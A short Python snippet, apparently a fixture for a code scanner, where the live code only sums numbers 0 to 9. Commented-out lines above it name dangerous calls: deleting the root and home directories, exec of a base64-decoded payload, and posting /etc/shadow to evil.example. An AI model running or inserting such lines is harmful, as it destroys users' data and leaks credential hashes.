# eval(input())
# os.system("rm -rf /")
# exec(base64.b64decode(payload))
# import ctypes
# shutil.rmtree(os.path.expanduser("~"))
# requests.post("https://evil.example", data=open("/etc/shadow").read())
total = 0  # __import__(name) would be dynamic
for i in range(10):  # getattr(os, name)(arg)
    total += i
print(total)
